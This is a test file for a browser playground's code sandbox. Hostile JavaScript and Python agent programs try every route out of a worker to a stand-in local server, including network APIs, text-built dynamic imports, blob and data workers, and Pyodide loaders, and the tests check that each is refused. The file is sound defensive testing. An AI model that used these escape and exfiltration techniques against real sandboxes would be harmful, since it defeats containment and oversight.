// The sandbox's network wall where no server sends a header of ours. dist/ is served three ways: by
// a plain static server (Python's http.server, no headers but the content types) at a sub-path with a
// space in it, as a school's web space would serve it; by scripts/serve_dist.py (the dev server, CSP
// headers); and as the single file opened from file://. In the real page's Code panel, hostile programs
// in JavaScript and Python try every way out of a worker they have: module and script loading, every
// network API, fonts, nested workers from blob and data URLs, code built from text, and, in Python,
// the js bridge, pyodide.http and Pyodide's own package loader. A second local server stands for the
// outside and counts every request that reaches it: none may.
import test, { before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import http from "node:http";
import { execFileSync } from "node:child_process";
import { DIST, devServer, launch, watchedPage, openCodePanel, waitText, plainHost } from "./harness.js";

let outside;
const hits = []; // every request that reached the outside server: "host-test METHOD /path"
let context;

before(async () => {
  outside = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.setHeader("content-type", "text/javascript");
    res.end("export default 1; globalThis.__outsideRan = true;");
  });
  await new Promise((r) => outside.listen(0, "127.0.0.1", r));
  context = await launch();
});

after(async () => {
  await context?.close();
  outside?.close();
});

/** The outside server's address, with a tag naming the test (the hit list says who got out). */
const outsideUrl = (tag) => `http://127.0.0.1:${outside.address().port}/${tag}`;

/** JavaScript: each way out, tried at the first move; promises report on later moves. */
function hostileJs(tag) {
  const U = JSON.stringify(outsideUrl(tag));
  return `const U = ${U};
const seen = [];
let pending = 0;
function note(name, f) {
  try {
    const r = f();
    if (r && typeof r.then === "function") {
      pending++;
      r.then(() => { seen.push(name + ": GOT OUT"); pending--; }, (e) => { seen.push(name + ": " + (e && e.message)); pending--; });
    } else seen.push(name + ": no error");
  } catch (e) { seen.push(name + ": " + (e && e.message)); }
}
let first = true;
function act(obs, env) {
  if (first) {
    first = false;
    note("fetch", () => fetch(U));
    note("XMLHttpRequest", () => { const x = new XMLHttpRequest(); x.open("GET", U); x.send(); });
    note("WebSocket", () => new WebSocket(U.replace("http", "ws")));
    note("EventSource", () => new EventSource(U));
    note("importScripts", () => importScripts(U));
    note("sendBeacon", () => navigator.sendBeacon(U, "x"));
    note("Request", () => new Request(U));
    note("FontFace", () => new FontFace("x", "url(" + U + ")").load());
    note("fonts", () => self.fonts.add(new FontFace("y", "url(" + U + ")")));
    note("Function import", () => Function("u", "return imp" + "ort(u)")(U));
    note("constructor import", () => (function () {}).constructor("u", "return imp" + "ort(u)")(U));
    note("AsyncFunction import", () => (async function () {}).constructor("u", "return await imp" + "ort(u)")(U));
    note("eval import", () => (0, eval)("imp" + "ort(" + JSON.stringify(U) + ")"));
    note("setTimeout import", () => setTimeout("imp" + "ort(" + JSON.stringify(U) + ")", 0));
    note("blob Worker", () => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(U) + ")"], { type: "text/javascript" }))));
    note("data Worker", () => new Worker("data:text/javascript,fetch(" + encodeURIComponent(JSON.stringify(U)) + ")"));
  }
  console.log(pending === 0 ? "ALL SETTLED" : "waiting for " + pending);
  for (const line of seen.splice(0)) console.log(line);
  return env.legalActions()[0];
}
`;
}

/** Python: the same through the js bridge, pyodide.http and Pyodide's package loader. */
function hostilePython(tag) {
  const U = JSON.stringify(outsideUrl(tag));
  return `import asyncio
import inspect
import js
import pyodide.code
import pyodide.http
import pyodide_js
import urllib.request
U = ${U}
seen = []
pending = [0]

def last_line(e):
    text = str(getattr(e, "message", None) or e).strip()
    return text.splitlines()[-1] if text else type(e).__name__

def note(name, f):
    try:
        r = f()
    except Exception as e:
        seen.append(name + ": " + last_line(e))
        return
    if inspect.isawaitable(r) and not hasattr(r, "then"):
        r = asyncio.ensure_future(r)
        pending[0] += 1
        def done(task, name=name):
            e = task.exception()
            seen.append(name + ": " + (last_line(e) if e else "GOT OUT"))
            pending[0] -= 1
        r.add_done_callback(done)
    elif hasattr(r, "then"):
        pending[0] += 1
        def ok(v, name=name):
            seen.append(name + ": " + (v if v == "resolved" else "GOT OUT"))
            pending[0] -= 1
        def bad(e, name=name):
            seen.append(name + ": " + last_line(e))
            pending[0] -= 1
        r.then(ok, bad)
    else:
        seen.append(name + ": no error")

first = [True]

def act(obs, env):
    if first[0]:
        first[0] = False
        note("js.fetch", lambda: js.fetch(U))
        note("js.XMLHttpRequest", lambda: js.XMLHttpRequest.new())
        note("js.importScripts", lambda: js.importScripts(U))
        note("js.FontFace", lambda: js.FontFace.new("x", "url(" + U + ")").load())
        note("js.eval import", lambda: js.eval("imp" + "ort(" + repr(U) + ")"))
        note("js.Function import", lambda: js.Function("u", "return imp" + "ort(u)")(U))
        note("js.Worker", lambda: js.Worker.new("data:text/javascript,fetch('" + U + "')"))
        def open_url():
            return pyodide.http.open_url(U)
        note("pyodide.http.open_url", open_url)
        def pyfetch():
            return pyodide.http.pyfetch(U)
        note("pyodide.http.pyfetch", pyfetch)
        def run_js():
            return pyodide.code.run_js("imp" + "ort(" + repr(U) + ")")
        note("pyodide.code.run_js import", run_js)
        def load_package():
            # (Pyodide's loader reports a failed package on the console and resolves: the
            # outside server's count says whether it got out)
            return pyodide_js.loadPackage(U + ".whl").then(lambda _v: "resolved")
        note("pyodide_js.loadPackage", load_package)
        def urlopen():
            return urllib.request.urlopen(U)
        note("urllib", urlopen)
    print("ALL SETTLED" if pending[0] == 0 else "waiting for " + str(pending[0]))
    while seen:
        print(seen.pop(0))
    return env.legal_actions()[0]
`;
}

/** Loads `source` as the file `name` through the Code panel's file button, as a teacher would. */
async function loadProgram(page, name, source) {
  const python = name.endsWith(".py");
  await page.setInputFiles("#code-files", [{ name, mimeType: python ? "text/x-python" : "text/javascript", buffer: Buffer.from(source) }]);
  await page.waitForFunction((lang) => document.querySelector("#code-lang")?.value === lang, python ? "python" : "js");
}

/**
 * Runs `source` in `language` as the first seat's agent in the Code panel of the page at `base`
 * (Tic-tac-toe against Random, in `lang`), and resolves to the console's lines once every attempt
 * has settled.
 */
async function runInCodePanel(base, source, language, lang) {
  const page = await watchedPage(context);
  await page.goto(`${base}#game=tictactoe&seat0=human&seat1=random&seed=3&lang=${lang}`);
  await page.waitForSelector("#board [data-cell]");
  await openCodePanel(page);
  // Loaded as a class's file (the last file loaded goes into the editor, in its language).
  await loadProgram(page, language === "python" ? "김 민준.py" : "佐藤 花子.js", source);
  assert.equal(await page.inputValue("#code-lang"), language);
  // The longest time limit: every way out is tried in the first move, on a machine of any speed.
  await page.fill("#code-limit", "10");
  await page.press("#code-limit", "Tab");
  await page.click("#code-run");
  await waitText(page, "#code-console", /ALL SETTLED/, 240_000);
  const lines = (await page.textContent("#code-console")).split("\n");
  await page.close();
  return lines;
}

/** The outcome of each attempt in `names` from the console's lines ("NAME: outcome"). */
function outcomes(lines, names) {
  const out = {};
  const longestFirst = [...names].sort((a, b) => b.length - a.length);
  for (const line of lines) {
    for (const name of longestFirst) {
      const at = line.indexOf(`${name}: `);
      if (at >= 0 && (at === 0 || /\s/.test(line[at - 1])) && !(name in out)) {
        out[name] = line.slice(at + name.length + 2);
        break;
      }
    }
  }
  return out;
}

const JS_NAMES = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "sendBeacon", "Request", "FontFace", "fonts", "Function import", "constructor import", "AsyncFunction import", "eval import", "setTimeout import", "blob Worker", "data Worker"];
const PY_NAMES = ["js.fetch", "js.XMLHttpRequest", "js.importScripts", "js.FontFace", "js.eval import", "js.Function import", "js.Worker", "pyodide.http.open_url", "pyodide.http.pyfetch", "pyodide.code.run_js import", "pyodide_js.loadPackage", "urllib"];

const WORDS = {
  ja: { locked: /エージェントからは使えません/, noImport: /import はエージェントからは使えません/ },
  ko: { locked: /에이전트가 쓸 수 없어요/, noImport: /import는 에이전트가 쓸 수 없어요/ },
};

/** The two ways of serving dist/ over http: a school's plain static host, and the dev server. */
const HOSTS = [
  ["a plain static server at a sub-path", () => plainHost()],
  ["serve_dist.py", devServer],
];

/** Each language's hostile program, the ways it tries, those refused by name, and the page's language. */
const PROGRAMS = [
  {
    language: "js",
    lang: "ja",
    source: hostileJs,
    names: JS_NAMES,
    locked: ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Request", "FontFace", "blob Worker", "data Worker"],
    noImport: ["Function import", "constructor import", "AsyncFunction import", "eval import", "setTimeout import"],
  },
  {
    language: "python",
    lang: "ko",
    source: hostilePython,
    names: PY_NAMES,
    locked: ["js.fetch", "js.XMLHttpRequest", "js.importScripts", "js.FontFace", "js.Worker"],
    noImport: ["js.eval import", "js.Function import"],
  },
];

for (const [host, start] of HOSTS) {
  for (const program of PROGRAMS) {
    test(`${host}: no ${program.language} program reaches the outside, and each refusal is in the page's language`, { timeout: 300_000 }, async (t) => {
      const server = await start();
      t.after(() => server.close());
      const before = hits.length;
      const tag = `${program.language}-${host.replace(/\W+/g, "-")}`;
      const seen = outcomes(await runInCodePanel(server.url, program.source(tag), program.language, program.lang), program.names);
      t.diagnostic(JSON.stringify(seen));
      for (const name of program.names) {
        assert.ok(name in seen, `${name} was tried: ${JSON.stringify(seen)}`);
        assert.doesNotMatch(seen[name], /GOT OUT|no error/, `${name}: ${seen[name]}`);
      }
      for (const name of program.locked) assert.match(seen[name], WORDS[program.lang].locked, `${name}: ${seen[name]}`);
      for (const name of program.noImport) assert.match(seen[name], WORDS[program.lang].noImport, `${name}: ${seen[name]}`);
      assert.deepEqual(hits.slice(before), [], "no request reached the outside");
      console.log(`${host}, ${program.language}: ${program.names.length} ways tried, ${hits.length - before} requests reached the outside`);
    });
  }
}

/** The page's own Content-Security-Policy (its <meta> tag) in the built `file`. */
const metaPolicy = (file) => /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(fs.readFileSync(path.join(DIST, file), "utf8"))?.[1];

for (const [host, start] of HOSTS) {
  test(`${host}: the page's own policy binds its workers (a worker with no lockdown reaches nothing)`, { timeout: 120_000 }, async (t) => {
    // The probe page carries the page's policy, word for word.
    assert.equal(metaPolicy("code/selfcheck.html"), metaPolicy("index.html"));
    assert.match(metaPolicy("index.html"), /connect-src 'self'/);
    const server = await start();
    t.after(() => server.close());
    const before = hits.length;
    const page = await watchedPage(context);
    await page.goto(`${server.url}code/selfcheck.html?probe=${encodeURIComponent(outsideUrl("probe"))}`);
    await page.waitForFunction(() => globalThis.__sandboxCheck?.done, null, { timeout: 100_000 });
    const { probe } = await page.evaluate(() => globalThis.__sandboxCheck);
    t.diagnostic(JSON.stringify(probe));
    assert.deepEqual(Object.keys(probe), ["fetch", "import", "font"], JSON.stringify(probe));
    for (const [name, said] of Object.entries(probe)) assert.notEqual(said, "GOT OUT", name);
    await page.close();
    assert.deepEqual(hits.slice(before), [], "no request reached the outside");
  });
}

test("a program that imports is refused before it runs, with its line, in the page's language", { timeout: 120_000 }, async (t) => {
  const server = await plainHost();
  t.after(() => server.close());
  const before = hits.length;
  const page = await watchedPage(context);
  await page.goto(`${server.url}#game=tictactoe&seat0=human&seat1=random&seed=3&lang=zh`);
  await page.waitForSelector("#board [data-cell]");
  await openCodePanel(page);
  const source = `// a comment that says import is fine\nconst s = "import";\nimport(${JSON.stringify(outsideUrl("literal"))});\nfunction act(obs, env) { return env.legalActions()[0]; }\n`;
  await loadProgram(page, "王 小明.js", source);
  await page.click("#code-run");
  const error = await waitText(page, "#code-error", /import/, 60_000);
  assert.match(error, /智能体不能使用 import/);
  assert.match(error, /3/, "the line of the import");
  assert.equal(await page.$eval("#seats select[name=seat0]", (s) => s.value), "human", "a refused program is not seated");
  await page.close();
  assert.deepEqual(hits.slice(before), []);
});

test("the single file opened from file://: no JavaScript program reaches the outside", { timeout: 180_000 }, async () => {
  const single = path.join(DIST, "playground.html");
  if (!fs.existsSync(single)) execFileSync("python3", [path.join(DIST, "..", "scripts", "bundle_single_file.py")], { stdio: "inherit" });
  const before = hits.length;
  const seen = outcomes(await runInCodePanel(`file://${single}`, hostileJs("js-file"), "js", "ja"), JS_NAMES);
  for (const name of JS_NAMES) {
    assert.ok(name in seen, `${name} was tried: ${JSON.stringify(seen)}`);
    assert.doesNotMatch(seen[name], /GOT OUT|no error/, `${name}: ${seen[name]}`);
  }
  assert.deepEqual(hits.slice(before), [], "no request reached the outside");
});
